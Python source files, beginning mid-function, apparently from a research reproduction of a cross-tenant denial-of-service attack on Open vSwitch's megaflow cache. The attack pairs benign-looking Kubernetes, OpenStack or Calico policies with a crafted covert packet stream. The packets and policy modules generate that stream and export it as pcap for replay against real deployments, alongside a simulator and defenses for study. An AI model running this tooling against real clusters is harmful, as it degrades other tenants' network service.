        ranges = [range(1, dim.prefix_len + 1) for dim in self.dimensions]
        budget = max(max_tries_per_shard, 1) * shards
        for combo_index, combo in enumerate(product(*ranges)):
            report.combos += 1
            values = dict(base)
            free: list[tuple[str, int]] = []
            for dim, prefix_len in zip(self.dimensions, combo):
                values[dim.field] = bit_flip(
                    dim.allow_value, prefix_len - 1, dim.width
                )
                # bits strictly below the witness are wildcarded by the
                # resulting megaflow: free entropy for RSS steering
                free.append((dim.field, dim.width - prefix_len))
            total_free = sum(bits for _field, bits in free)
            if shards == 1 or total_free == 0:
                key = FlowKey(self.space, values)
                report.keys.append(key)
                report.combo_of.append(combo_index)
                if shards > 1:
                    reached = shard_of(key)
                    report.missed[combo_index] = tuple(
                        s for s in range(shards) if s != reached
                    )
                continue
            space_size = 1 << total_free
            exhaustive = space_size <= budget
            wanted = set(range(shards))
            found: dict[int, FlowKey] = {}
            tried: set[int] = set()
            probes = self._probe_patterns(total_free, budget, exhaustive)
            for pattern in probes:
                if pattern in tried:
                    continue
                tried.add(pattern)
                variant = dict(values)
                cursor = pattern
                for field_name, bits in free:
                    if not bits:
                        continue
                    chunk = cursor & ((1 << bits) - 1)
                    cursor >>= bits
                    if chunk:
                        variant[field_name] ^= chunk
                key = FlowKey(self.space, variant)
                shard = shard_of(key)
                if shard in wanted:
                    wanted.discard(shard)
                    found[shard] = key
                    if not wanted:
                        break
            for shard in sorted(found):
                report.keys.append(found[shard])
                report.combo_of.append(combo_index)
            if wanted:
                report.missed[combo_index] = tuple(sorted(wanted))
                if not exhaustive and len(tried) < space_size:
                    report.budget_exhausted += 1
        return report

    @staticmethod
    def _probe_patterns(total_free: int, budget: int,
                        exhaustive: bool) -> Iterator[int]:
        """The deterministic probe order over a free-bit space: base
        key, single bits highest-first, then mixed full-width patterns
        (or plain exhaustive enumeration when the space fits the
        budget)."""
        if exhaustive:
            yield from range(1 << total_free)
            return
        yield 0
        emitted = 1
        for bit in range(total_free - 1, -1, -1):
            if emitted >= budget:
                return
            yield 1 << bit
            emitted += 1
        counter = 0
        while emitted < budget:
            yield _mixed_probe(counter, total_free)
            counter += 1
            emitted += 1

    def packet_for_key(self, key: FlowKey) -> Layer:
        """Craft the real on-the-wire packet realising one flow key."""
        l4: Layer
        if self.protocol == PROTO_TCP:
            l4 = Tcp(sport=key.get("tp_src"), dport=key.get("tp_dst"))
        else:
            l4 = Udp(sport=key.get("tp_src"), dport=key.get("tp_dst"))
        return (
            Ethernet(src=self.src_mac, dst=self.dst_mac, pad_to_min=True)
            / IPv4(src=key.get("ip_src"), dst=key.get("ip_dst"), proto=self.protocol)
            / l4
        )

    def packets(self) -> Iterator[Layer]:
        """Craft every covert packet."""
        for key in self.keys():
            yield self.packet_for_key(key)

    def frames(self) -> Iterator[bytes]:
        """Serialise every covert packet to wire bytes."""
        for packet in self.packets():
            yield packet.build()

    def write_pcap(self, path: str, rate_pps: float = 1000.0) -> int:
        """Export the stream for tcpreplay; returns the packet count."""
        with PcapWriter(path) as writer:
            return writer.write_all(self.frames(), rate_pps=rate_pps)
