"""The adversarial covert packet sequence.

"We also need a packet sequence that will populate the MF with the
'required' entries" — the paper omits the construction "in the interest
of space"; here it is:

For attack dimensions ``(f_1, L_1) … (f_k, L_k)`` (single-field allow
rules with prefix depth ``L_i``), the covert packet for mask combination
``(l_1, …, l_k)``, ``1 ≤ l_i ≤ L_i``, sets field ``f_i`` to the allow
value with **bit ``l_i − 1`` flipped**: the packet then agrees with the
allow prefix on the first ``l_i − 1`` bits and diverges at bit
``l_i − 1``, so the slow path's witness for rule ``i`` sits exactly at
prefix length ``l_i``.  Every combination yields a distinct megaflow
mask, all combinations are denied (every rule is mismatched), and the
full cross product ``Π L_i`` is covered with exactly one packet each.

All other header fields are pinned (same eth_type, ip_dst = the
attacker's own pod, the allow rule's protocol), so no accidental extra
masks appear — the stream is as quiet as possible: low-rate,
valid-looking traffic to the attacker's own pod that the default-deny
drops on arrival.
"""

from __future__ import annotations

from itertools import product
from typing import Callable, Iterator, Sequence

from repro.attack.analysis import AttackDimension
from repro.flow.fields import FieldSpace, OVS_FIELDS
from repro.flow.key import FlowKey
from repro.net.addresses import MacAddr
from repro.net.ethernet import ETHERTYPE_IPV4, Ethernet
from repro.net.ipv4 import PROTO_TCP, PROTO_UDP, IPv4
from repro.net.l4 import Tcp, Udp
from repro.net.layers import Layer
from repro.net.pcap import PcapWriter
from repro.util.bits import bit_flip


def covert_keys_for_dimensions(
    dimensions: Sequence[AttackDimension],
    pinned: dict[str, int],
    space: FieldSpace = OVS_FIELDS,
) -> list[FlowKey]:
    """Generate one flow key per reachable mask combination.

    ``pinned`` supplies every non-attacked field (eth_type, ip_dst,
    ip_proto, and the allow values of attacked fields are taken from
    the dimensions themselves).
    """
    if not dimensions:
        raise ValueError("need at least one attack dimension")
    names = [dim.field for dim in dimensions]
    if len(set(names)) != len(names):
        raise ValueError(f"duplicate attack dimensions: {names}")
    base = dict(pinned)
    for dim in dimensions:
        base.setdefault(dim.field, dim.allow_value)

    keys: list[FlowKey] = []
    ranges = [range(1, dim.prefix_len + 1) for dim in dimensions]
    for combo in product(*ranges):
        values = dict(base)
        for dim, prefix_len in zip(dimensions, combo):
            values[dim.field] = bit_flip(dim.allow_value, prefix_len - 1, dim.width)
        keys.append(FlowKey(space, values))
    return keys


class CovertStreamGenerator:
    """Generates the covert stream as flow keys *and* as real packets.

    The flow keys drive the in-process dataplane model; the packets
    (and their pcap export) target replay against a real deployment.
    """

    def __init__(
        self,
        dimensions: Sequence[AttackDimension],
        dst_ip: int,
        space: FieldSpace = OVS_FIELDS,
        protocol: int = PROTO_TCP,
        src_mac: str = "02:00:00:aa:00:01",
        dst_mac: str = "02:00:00:aa:00:02",
        default_src_ip: int = 0x0A000001,
        default_sport: int = 40000,
        default_dport: int = 40001,
        frame_pad: int = 64,
    ) -> None:
        if protocol not in (PROTO_TCP, PROTO_UDP):
            raise ValueError("covert stream must be TCP or UDP")
        self.dimensions = list(dimensions)
        self.space = space
        self.protocol = protocol
        self.dst_ip = dst_ip
        self.src_mac = MacAddr(src_mac)
        self.dst_mac = MacAddr(dst_mac)
        self.default_src_ip = default_src_ip
        self.default_sport = default_sport
        self.default_dport = default_dport
        self.frame_pad = frame_pad

    def pinned_fields(self) -> dict[str, int]:
        """The non-attacked field values every covert packet shares."""
        pinned = {
            "eth_type": ETHERTYPE_IPV4,
            "ip_dst": self.dst_ip,
            "ip_proto": self.protocol,
            "ip_src": self.default_src_ip,
            "tp_src": self.default_sport,
            "tp_dst": self.default_dport,
        }
        return {name: value for name, value in pinned.items() if name in self.space}

    def keys(self) -> list[FlowKey]:
        """The full adversarial key sequence (one per target mask)."""
        return covert_keys_for_dimensions(self.dimensions, self.pinned_fields(), self.space)

    def spread_keys(
        self,
        shards: int,
        shard_of: Callable[[FlowKey], int],
        max_tries_per_shard: int = 32,
    ) -> list[FlowKey]:
        """The hash-aware covert stream against a sharded datapath: per
        reachable mask combination, one key variant per PMD shard.

        A multi-PMD datapath RSS-dispatches packets by their headers, so
        the plain :meth:`keys` stream scatters — each mask lands only on
        the one shard its key hashes to, and the damage is *diluted* by
        the shard count.  The hash-aware attacker defeats that: for a
        combination whose witness sits at prefix length ``l_i``, the
        resulting megaflow wildcards every bit of field ``f_i`` below
        bit ``l_i - 1`` — so those bits are free entropy.  Varying them
        changes the RSS hash without changing the mask *or* the masked
        key the megaflow stores, and a brute-force search over the free
        bits (``shard_of`` is the attacker's model of the dispatcher)
        finds one variant per shard.  Every shard then receives the full
        mask cross-product, at ``shards``× the (still tiny) covert
        bandwidth.

        Combinations without enough free entropy (witnesses at full
        depth) stay confined to wherever their single key hashes —
        unreachable shards are simply skipped.  Deterministic given the
        dispatcher: no randomness involved.
        """
        if shards < 1:
            raise ValueError("shards must be >= 1")
        base = dict(self.pinned_fields())
        for dim in self.dimensions:
            base.setdefault(dim.field, dim.allow_value)
        keys: list[FlowKey] = []
        ranges = [range(1, dim.prefix_len + 1) for dim in self.dimensions]
        for combo in product(*ranges):
            values = dict(base)
            free: list[tuple[str, int]] = []
            for dim, prefix_len in zip(self.dimensions, combo):
                values[dim.field] = bit_flip(
                    dim.allow_value, prefix_len - 1, dim.width
                )
                # bits strictly below the witness are wildcarded by the
                # resulting megaflow: free entropy for RSS steering
                free.append((dim.field, dim.width - prefix_len))
            total_free = sum(bits for _field, bits in free)
            if shards == 1 or total_free == 0:
                keys.append(FlowKey(self.space, values))
                continue
            wanted = set(range(shards))
            found: dict[int, FlowKey] = {}
            limit = min(1 << min(total_free, 62), max_tries_per_shard * shards)
            for counter in range(limit):
                variant = dict(values)
                cursor = counter
                for field_name, bits in free:
                    if not bits:
                        continue
                    chunk = cursor & ((1 << bits) - 1)
                    cursor >>= bits
                    if chunk:
                        variant[field_name] ^= chunk
                key = FlowKey(self.space, variant)
                shard = shard_of(key)
                if shard in wanted:
                    wanted.discard(shard)
                    found[shard] = key
                    if not wanted:
                        break
            keys.extend(found[shard] for shard in sorted(found))
        return keys

    def packet_for_key(self, key: FlowKey) -> Layer:
        """Craft the real on-the-wire packet realising one flow key."""
        l4: Layer
        if self.protocol == PROTO_TCP:
            l4 = Tcp(sport=key.get("tp_src"), dport=key.get("tp_dst"))
        else:
            l4 = Udp(sport=key.get("tp_src"), dport=key.get("tp_dst"))
        return (
            Ethernet(src=self.src_mac, dst=self.dst_mac, pad_to_min=True)
            / IPv4(src=key.get("ip_src"), dst=key.get("ip_dst"), proto=self.protocol)
            / l4
        )

    def packets(self) -> Iterator[Layer]:
        """Craft every covert packet."""
        for key in self.keys():
            yield self.packet_for_key(key)

    def frames(self) -> Iterator[bytes]:
        """Serialise every covert packet to wire bytes."""
        for packet in self.packets():
            yield packet.build()

    def write_pcap(self, path: str, rate_pps: float = 1000.0) -> int:
        """Export the stream for tcpreplay; returns the packet count."""
        with PcapWriter(path) as writer:
            return writer.write_all(self.frames(), rate_pps=rate_pps)
