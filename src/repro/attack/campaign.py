"""End-to-end attack orchestration: policy injection + covert stream.

An :class:`AttackCampaign` reproduces the paper's Fig. 3 storyline on
one victim node:

1. before the attack, the node carries the victim tenant's traffic and
   a baseline of forwarding rules;
2. at ``inject_time`` the attacker's policy is accepted by the CMS and
   compiled into the node's slow path (a perfectly legitimate operation
   — that is the point of the attack);
3. from ``attacker.start_time`` the covert stream feeds the ACL,
   installing one megaflow mask per packet until the cross product is
   saturated, then keeps refreshing them within the idle timeout.

The campaign assembles the :class:`~repro.perf.simulator.
DataplaneSimulator` with the right events and returns its result plus
attack-side accounting.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

from repro.attack.analysis import (
    AttackDimension,
    AttackPrediction,
    predict,
)
from repro.attack.packets import CovertStreamGenerator
from repro.cms.base import CloudManagementSystem, PolicyTarget
from repro.flow.fields import OVS_FIELDS, FieldSpace
from repro.flow.key import FlowKey
from repro.net.ethernet import ETHERTYPE_IPV4
from repro.net.ipv4 import PROTO_TCP
from repro.ovs.switch import OvsSwitch
from repro.perf.costmodel import CostModel
from repro.perf.simulator import DataplaneSimulator, SimulationResult
from repro.perf.workload import AttackerWorkload, VictimWorkload
from repro.util.rng import DeterministicRng

if TYPE_CHECKING:
    from repro.scenario.datapath import Datapath


@dataclass
class CampaignReport:
    """Everything a campaign run produces."""

    prediction: AttackPrediction
    simulation: SimulationResult
    covert_packet_count: int

    def headline(self) -> str:
        """The paper-style one-liner."""
        sim = self.simulation
        return (
            f"masks={sim.final_mask_count()} "
            f"pre={sim.pre_attack_mean_bps() / 1e9:.2f} Gbps "
            f"post={sim.post_attack_mean_bps() / 1e9:.3f} Gbps "
            f"({sim.degradation():.1%} of baseline)"
        )


class AttackCampaign:
    """Builds and runs one policy-injection attack scenario."""

    def __init__(
        self,
        cms: CloudManagementSystem,
        policy: object,
        dimensions: list[AttackDimension],
        attacker_pod_ip: int,
        attacker_port: int = 101,
        tenant: str = "mallory",
        victim: VictimWorkload | None = None,
        attacker: AttackerWorkload | None = None,
        inject_time: float | None = None,
        duration: float = 150.0,
        cost_model: CostModel | None = None,
        switch: "Datapath | None" = None,
        space: FieldSpace = OVS_FIELDS,
        noise: float = 0.0,
        seed: int = 7,
        attacker_strategy: str = "naive",
        reprobe_interval: float = 0.0,
        reprobe_tries: int = 128,
        covert_replay: str = "model",
        telemetry=None,
    ) -> None:
        if attacker_strategy not in ("naive", "spread"):
            raise ValueError(
                f"unknown attacker_strategy {attacker_strategy!r}: naive | spread"
            )
        if reprobe_interval < 0:
            raise ValueError("reprobe_interval must be >= 0 (0 = never re-probe)")
        self.cms = cms
        self.policy = policy
        self.dimensions = dimensions
        self.tenant = tenant
        self.victim = victim or VictimWorkload()
        self.attacker = attacker or AttackerWorkload()
        #: policy lands slightly before the covert stream starts
        self.inject_time = (
            inject_time if inject_time is not None else max(self.attacker.start_time - 1.0, 0.0)
        )
        self.duration = duration
        self.cost_model = cost_model or CostModel()
        self.space = space
        self.noise = noise
        self.seed = seed
        self.rng = DeterministicRng(seed)
        self.switch = switch or OvsSwitch(space=space, name="victim-node")
        self.target = PolicyTarget(
            pod_ip=attacker_pod_ip,
            output_port=attacker_port,
            tenant=tenant,
            pod_name=f"{tenant}-pod",
        )
        self.attacker_strategy = attacker_strategy
        self.reprobe_interval = reprobe_interval
        self.reprobe_tries = reprobe_tries
        #: "model" | "datapath" — forwarded to the simulator (see
        #: :class:`~repro.perf.simulator.DataplaneSimulator`)
        self.covert_replay = covert_replay
        #: observability umbrella forwarded to the simulator (None =
        #: the shared null telemetry; zero overhead)
        self.telemetry = telemetry
        self.generator = CovertStreamGenerator(
            dimensions, dst_ip=attacker_pod_ip, space=space
        )

    def covert_stream(self):
        """The covert key sequence plus its re-steer hook.

        The ``naive`` strategy is the paper's one-key-per-mask stream.
        The ``spread`` strategy (hash-aware, PR 3/4) steers one variant
        per mask *per PMD shard* against the datapath's dispatcher; with
        ``reprobe_interval > 0`` the returned refresh hook re-steers
        against the *live* RETA (E10 showed a rebalanced table needs a
        bigger search budget, hence ``reprobe_tries`` > the default 32).
        Unsharded datapaths fall back to the naive stream — there is
        nothing to spread over — unless a re-probe interval was
        requested, which would then be a silent no-op and is rejected
        instead.
        """
        if self.attacker_strategy == "spread":
            from repro.ovs.pmd import shard_views

            shards = len(shard_views(self.switch))
            shard_of = getattr(self.switch, "shard_of", None)
            if shards > 1 and shard_of is not None:
                keys = self.generator.spread_keys(shards, shard_of)

                def refresh() -> list[FlowKey]:
                    return self.generator.spread_keys(
                        shards, shard_of,
                        max_tries_per_shard=self.reprobe_tries,
                    )

                return keys, (refresh if self.reprobe_interval > 0 else None)
            if self.reprobe_interval > 0:
                raise ValueError(
                    "reprobe_interval needs a multi-shard datapath: on "
                    f"{shards} shard(s) the spread stream falls back to "
                    "the naive keys and there is no dispatcher to "
                    "re-steer against (drop the interval, or use a "
                    "sharded backend)"
                )
        return self.generator.keys(), None

    def compiled_rules(self):
        """The flow rules the CMS will install for the malicious policy."""
        return self.cms.compile(self.policy, self.target, self.space)

    def victim_keys(self, count: int = 4) -> list[FlowKey]:
        """Representative victim flow keys (kept hot by the simulator).

        The victim tenant's pods live behind baseline forwarding rules;
        their traffic shares the node's megaflow cache with the
        attacker's masks — that sharing *is* the cross-tenant DoS.
        """
        keys = []
        for i in range(count):
            keys.append(
                FlowKey(
                    self.space,
                    {
                        "in_port": 1,
                        "eth_type": ETHERTYPE_IPV4,
                        "ip_src": 0x0A000100 + i,
                        "ip_dst": 0x0A000200,
                        "ip_proto": PROTO_TCP,
                        "tp_src": 33000 + i,
                        "tp_dst": 5201,
                    },
                )
            )
        return keys

    def build_simulator(self, extra_events=()) -> DataplaneSimulator:
        """Assemble the simulator with the injection event wired in;
        ``extra_events`` (e.g. a defense's timed response) are merged
        into the schedule."""
        from repro.cms.base import PRIORITY_BASELINE_FORWARD
        from repro.flow.actions import Output
        from repro.flow.match import FlowMatch
        from repro.flow.rule import FlowRule
        from repro.util.bits import ones

        # baseline forwarding for the victim pod (pre-existing state)
        victim_forward = FlowRule(
            match=FlowMatch(
                self.space,
                {
                    "eth_type": (ETHERTYPE_IPV4, ones(16)),
                    "ip_dst": (0x0A000200, ones(32)),
                },
            ),
            action=Output(7),
            priority=PRIORITY_BASELINE_FORWARD,
            tenant="victim",
            comment="baseline forwarding: victim pod",
        )
        self.switch.add_rule(victim_forward)

        rules = self.compiled_rules()

        def inject(switch: OvsSwitch) -> None:
            switch.add_rules(rules)

        covert_keys, covert_refresh = self.covert_stream()
        return DataplaneSimulator(
            switch=self.switch,
            cost_model=self.cost_model,
            victim=self.victim,
            attacker=self.attacker,
            covert_keys=covert_keys,
            victim_keys=self.victim_keys(),
            events=[(self.inject_time, inject), *extra_events],
            duration=self.duration,
            noise=self.noise,
            rng=self.rng.fork("simulator"),
            workload_seed=self.seed,
            covert_refresh=covert_refresh,
            reprobe_interval=self.reprobe_interval,
            covert_replay=self.covert_replay,
            telemetry=self.telemetry,
        )

    def run(self, extra_events=()) -> CampaignReport:
        """Execute the full campaign."""
        prediction = predict(
            self.dimensions,
            cost_model=self.cost_model,
            idle_timeout=min(self.switch.idle_timeout, 1e9),
        )
        simulator = self.build_simulator(extra_events)
        result = simulator.run()
        return CampaignReport(
            prediction=prediction,
            simulation=result,
            covert_packet_count=len(simulator.covert_keys),
        )
