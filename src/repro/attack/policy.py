"""Malicious-ACL builders: "seemingly harmless" policies per CMS.

Each builder returns a policy object the corresponding CMS accepts
without complaint — they are ordinary whitelist rules a security
auditor would wave through — shaped so their *deny* side maximises the
reachable megaflow-mask space:

* single-dimension rules (one field each) so witnesses multiply;
* exact values (a /32 source, single ports) so each dimension
  contributes its full width.
"""

from __future__ import annotations

from repro.attack.analysis import AttackDimension
from repro.cms.calico import CalicoEntityRule, CalicoPolicy, CalicoRule
from repro.cms.kubernetes import (
    IpBlock,
    NetworkPolicy,
    NetworkPolicyIngressRule,
    NetworkPolicyPeer,
    NetworkPolicyPort,
)
from repro.cms.openstack import SecurityGroup, SecurityGroupRule
from repro.net.addresses import int_to_ip, ip_to_int


def kubernetes_attack_policy(
    allow_ip: str | int = "10.0.0.10",
    allow_port: int = 80,
    name: str = "backend-allowlist",
) -> tuple[NetworkPolicy, list[AttackDimension]]:
    """A NetworkPolicy with two independent single-field ingress entries
    (ipBlock-only and ports-only) — the paper's "2 ACL rules matching
    solely on the IP source address and the L4 destination port".
    Reachable deny masks: 32 × 16 = 512.
    """
    ip_value = ip_to_int(allow_ip)
    policy = NetworkPolicy(
        name=name,
        ingress=(
            NetworkPolicyIngressRule(
                from_=(NetworkPolicyPeer(IpBlock(cidr=f"{int_to_ip(ip_value)}/32")),),
            ),
            NetworkPolicyIngressRule(
                ports=(NetworkPolicyPort(protocol="tcp", port=allow_port),),
            ),
        ),
    )
    dimensions = [
        AttackDimension("ip_src", ip_value, 32, 32),
        AttackDimension("tp_dst", allow_port, 16, 16),
    ]
    return policy, dimensions


def openstack_attack_security_group(
    allow_ip: str | int = "10.0.0.10",
    allow_port: int = 443,
    name: str = "web-sg",
) -> tuple[SecurityGroup, list[AttackDimension]]:
    """Two security-group rules with the same single-field shape as the
    Kubernetes variant.  Reachable deny masks: 32 × 16 = 512."""
    ip_value = ip_to_int(allow_ip)
    group = SecurityGroup(name=name)
    group.add(SecurityGroupRule(remote_ip_prefix=f"{int_to_ip(ip_value)}/32"))
    group.add(
        SecurityGroupRule(
            protocol="tcp", port_range_min=allow_port, port_range_max=allow_port
        )
    )
    dimensions = [
        AttackDimension("ip_src", ip_value, 32, 32),
        AttackDimension("tp_dst", allow_port, 16, 16),
    ]
    return group, dimensions


def calico_attack_policy(
    allow_ip: str | int = "10.0.0.10",
    allow_dport: int = 80,
    allow_sport: int = 32768,
    name: str = "backend-allowlist-calico",
) -> tuple[CalicoPolicy, list[AttackDimension]]:
    """Three single-field Calico rules — the source-port rule is the one
    only Calico's surface accepts.  Reachable deny masks:
    32 × 16 × 16 = 8192 — the paper's full-blown DoS (Fig. 3)."""
    ip_value = ip_to_int(allow_ip)
    policy = CalicoPolicy(
        name=name,
        ingress=(
            CalicoRule(source=CalicoEntityRule(nets=(f"{int_to_ip(ip_value)}/32",))),
            CalicoRule(
                protocol="tcp",
                destination=CalicoEntityRule(ports=((allow_dport, allow_dport),)),
            ),
            CalicoRule(
                protocol="tcp",
                source=CalicoEntityRule(ports=((allow_sport, allow_sport),)),
            ),
        ),
    )
    dimensions = [
        AttackDimension("ip_src", ip_value, 32, 32),
        AttackDimension("tp_dst", allow_dport, 16, 16),
        AttackDimension("tp_src", allow_sport, 16, 16),
    ]
    return policy, dimensions


def single_prefix_policy(
    cidr: str = "10.0.0.0/8",
    name: str = "intra-dc-allowlist",
) -> tuple[NetworkPolicy, list[AttackDimension]]:
    """The paper's warm-up: a single /8 allow rule, as in the Fig. 1
    narrative ("allow communication from 10.0.0.0/8 ... and deny
    everything else").  Reachable deny masks: 8."""
    policy = NetworkPolicy(
        name=name,
        ingress=(
            NetworkPolicyIngressRule(from_=(NetworkPolicyPeer(IpBlock(cidr=cidr)),)),
        ),
    )
    network = ip_to_int(cidr.split("/")[0])
    prefix_len = int(cidr.split("/")[1])
    dimensions = [AttackDimension("ip_src", network, prefix_len, 32)]
    return policy, dimensions
