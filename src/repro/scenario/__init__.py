"""The Scenario API: declarative experiment sessions over pluggable
datapath backends.

This package is the single public entry point for composing and running
experiments:

* :class:`~repro.scenario.spec.ScenarioSpec` — a declarative
  description of one cell of the paper's scenario matrix ({CMS surface}
  × {switch profile} × {attack shape} × {defense}), constructible from
  names and plain dicts;
* the **registries** (:data:`SURFACES`, :data:`PROFILES`,
  :data:`DEFENSES`, :data:`BACKENDS`, :data:`SCENARIOS`) — the
  string-keyed axes a spec draws from;
* :class:`~repro.scenario.session.Session` — the facade that builds the
  datapath, compiles the CMS policy, runs the campaign through the perf
  layer and returns a uniform
  :class:`~repro.scenario.session.ScenarioResult`;
* the :class:`~repro.scenario.datapath.Datapath` protocol — the
  classifier-backend interface extracted from
  :class:`~repro.ovs.switch.OvsSwitch`, with a bulk
  ``process_batch()`` entry point, behind which alternative backends
  (e.g. the cacheless/ESwitch reference) plug in.

Quick use::

    from repro.scenario import Session
    result = Session("fig3").run()
    print(result.render())
"""

from repro.scenario.datapath import (
    DATAPATH_SURFACE,
    CachelessDatapath,
    Datapath,
)
from repro.scenario.registry import (
    BACKENDS,
    DEFENSES,
    PROFILES,
    SURFACES,
    DefenseAgent,
    Surface,
)
from repro.scenario.presets import SCENARIOS
from repro.scenario.session import MaskProbe, ScenarioResult, Session
from repro.scenario.spec import DefenseUse, ScenarioSpec

__all__ = [
    "BACKENDS",
    "CachelessDatapath",
    "DATAPATH_SURFACE",
    "DEFENSES",
    "Datapath",
    "DefenseAgent",
    "DefenseUse",
    "MaskProbe",
    "PROFILES",
    "SCENARIOS",
    "SURFACES",
    "ScenarioResult",
    "ScenarioSpec",
    "Session",
    "Surface",
]
