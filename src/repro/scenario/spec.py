"""The declarative scenario description.

A :class:`ScenarioSpec` names one cell of the paper's scenario matrix
— {attack surface} × {datapath profile} × {backend} × {defenses} ×
{workload/timing knobs} — entirely with strings and numbers, so specs
round-trip through plain dicts (and therefore JSON, CLI flags, and
config files) and resolve against the registries only when a
:class:`~repro.scenario.session.Session` is built.
"""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass, field
from typing import Any, Mapping


@dataclass(frozen=True)
class DefenseUse:
    """One defense activation: a registry name plus override params."""

    name: str
    params: dict[str, Any] = field(default_factory=dict)

    @classmethod
    def from_any(cls, value: "DefenseUse | str | Mapping[str, Any]") -> "DefenseUse":
        """Accept ``"mask-limit"``, ``{"name": ..., "params": {...}}``
        or an existing :class:`DefenseUse`."""
        if isinstance(value, DefenseUse):
            return value
        if isinstance(value, str):
            return cls(name=value)
        if isinstance(value, Mapping):
            extra = set(value) - {"name", "params"}
            if extra or "name" not in value:
                raise ValueError(
                    f"a defense dict needs 'name' (+ optional 'params'), got {sorted(value)}"
                )
            return cls(name=value["name"], params=dict(value.get("params", {})))
        raise TypeError(f"cannot build a DefenseUse from {value!r}")

    def to_dict(self) -> dict[str, Any] | str:
        """The most compact dict/str form that round-trips."""
        if not self.params:
            return self.name
        return {"name": self.name, "params": dict(self.params)}


@dataclass(frozen=True)
class ScenarioSpec:
    """Everything needed to reproduce one experiment run."""

    #: attack surface (a :data:`repro.scenario.registry.SURFACES` name)
    surface: str
    #: datapath profile (:data:`repro.scenario.registry.PROFILES` name)
    profile: str = "kernel"
    #: classifier backend (:data:`repro.scenario.registry.BACKENDS` name)
    backend: str = "ovs"
    #: active defenses, applied in order
    defenses: tuple[DefenseUse, ...] = ()
    #: simulated seconds
    duration: float = 150.0
    #: when the covert stream starts (Fig. 3: t = 60 s)
    attack_start: float = 60.0
    #: when the malicious policy is compiled in (default: 1 s before)
    inject_time: float | None = None
    #: covert stream rate / frame size
    covert_rate_bps: float = 2e6
    covert_frame_bytes: int = 64
    #: victim workload
    victim_offered_bps: float = 1e9
    victim_frame_bytes: int = 1500
    victim_concurrent_flows: int = 5000
    victim_new_flows_per_sec: float = 500.0
    #: the attacker pod the policy attaches to
    attacker_pod_ip: str = "10.0.9.10"
    #: covert stream construction: "naive" (the paper's one key per
    #: mask) or "spread" (hash-aware: one variant per mask per PMD
    #: shard, steered against the datapath's dispatcher; falls back to
    #: naive on unsharded backends)
    attacker_strategy: str = "naive"
    #: how often (simulated seconds) the spread attacker re-steers its
    #: stream against the *live* RETA; 0 = steer once at build time
    #: (only meaningful with ``attacker_strategy="spread"`` and a
    #: rebalancing sharded backend)
    reprobe_interval: float = 0.0
    #: how covert packets are replayed each tick: "model" (the default
    #: hybrid-fidelity scheme — installed flows refresh and are charged
    #: analytically) or "datapath" (every due packet runs as one
    #: coalesced burst through the real ``process_batch`` pipeline, so
    #: the tick's wall clock exercises the datapath engine end-to-end)
    covert_replay: str = "model"
    #: enable the TSS staged-lookup optimisation
    staged_lookup: bool = False
    #: TSS subtable visit order ("insertion" | "hits" | "ranked");
    #: empty string defers to the datapath profile's default
    scan_order: str = ""
    #: TSS hash-key representation ("packed" fast path | "tuple"
    #: reference); both yield identical results and scan accounting
    key_mode: str = "packed"
    #: forwarding shards (PMD threads, one classifier each; packets are
    #: RSS-dispatched); 0 defers to the datapath profile's default, and
    #: an effective count of 1 is behaviourally identical to the
    #: unsharded switch
    shards: int = 0
    #: RSS indirection-table buckets on sharded backends (rounded up to
    #: a multiple of the shard count); 0 defers to the profile's default
    reta_size: int = 0
    #: PMD auto-load-balance interval in simulated seconds: how often
    #: RETA buckets are remapped hottest-PMD → coolest.  0 disables
    #: (bit-identical to a static RSS spread); ``None`` defers to the
    #: datapath profile's default
    rebalance_interval: float | None = None
    #: minimum relative load-imbalance improvement (0..1) a candidate
    #: RETA remap must promise before the auto-lb applies it; 0 applies
    #: every candidate, ``None`` defers to the profile's default.  Only
    #: meaningful on a datapath with a rebalancer (shards > 1, or the
    #: ``sharded`` backend) — builders reject it elsewhere
    rebalance_improvement: float | None = None
    #: per-PMD load (packets/s) below which the auto-lb leaves the
    #: spread alone; 0 disables the floor, ``None`` defers to the
    #: profile's default.  Same rebalancer-only constraint as
    #: ``rebalance_improvement``
    rebalance_load_floor: float | None = None
    #: Zipf skew of the victim's per-hash-bucket load (0 = uniform; ~1+
    #: = the heavy-tailed elephant-flow regime that leaves statically
    #: hashed PMDs asymmetrically loaded)
    workload_skew: float = 0.0
    #: multiplicative throughput noise (0 = deterministic)
    noise: float = 0.0
    seed: int = 7
    #: display name (defaults to the surface name)
    name: str = ""
    description: str = ""

    def __post_init__(self) -> None:
        # normalise: accept lists / bare strings for defenses
        object.__setattr__(
            self,
            "defenses",
            tuple(DefenseUse.from_any(d) for d in self.defenses),
        )
        if not self.name:
            object.__setattr__(self, "name", self.surface)
        if self.duration <= 0:
            raise ValueError("duration must be positive")
        if self.shards < 0:
            raise ValueError("shards must be >= 0 (0 = profile default)")
        if self.reta_size < 0:
            raise ValueError("reta_size must be >= 0 (0 = profile default)")
        if self.rebalance_interval is not None and self.rebalance_interval < 0:
            raise ValueError(
                "rebalance_interval must be >= 0 (0 disables; omit for the "
                "profile default)"
            )
        if (
            self.rebalance_improvement is not None
            and self.rebalance_improvement < 0
        ):
            raise ValueError(
                "rebalance_improvement must be >= 0 (0 applies every "
                "candidate remap; omit for the profile default)"
            )
        if (
            self.rebalance_load_floor is not None
            and self.rebalance_load_floor < 0
        ):
            raise ValueError(
                "rebalance_load_floor must be >= 0 (0 disables the floor; "
                "omit for the profile default)"
            )
        if self.workload_skew < 0:
            raise ValueError("workload_skew must be >= 0 (0 = uniform)")
        if self.attacker_strategy not in ("naive", "spread"):
            raise ValueError(
                f"unknown attacker_strategy {self.attacker_strategy!r}: "
                "naive | spread"
            )
        if self.reprobe_interval < 0:
            raise ValueError("reprobe_interval must be >= 0 (0 = never)")
        if self.covert_replay not in ("model", "datapath"):
            raise ValueError(
                f"unknown covert_replay {self.covert_replay!r}: "
                "model | datapath"
            )
        if self.reprobe_interval > 0 and self.attacker_strategy != "spread":
            # a naive stream has nothing to re-steer: fail loudly rather
            # than silently measuring the baseline under a knob the user
            # believes is active
            raise ValueError(
                "reprobe_interval only applies to the spread attacker; "
                'set attacker_strategy="spread" (or drop the interval)'
            )

    # -- registry validation ------------------------------------------------

    def validate(self) -> "ScenarioSpec":
        """Resolve every registry name; unknown names raise
        :class:`~repro.util.registry.UnknownNameError` listing the valid
        choices.  Returns self for chaining."""
        from repro.scenario import registry

        registry.SURFACES.get(self.surface)
        registry.PROFILES.get(self.profile)
        registry.BACKENDS.get(self.backend)
        for use in self.defenses:
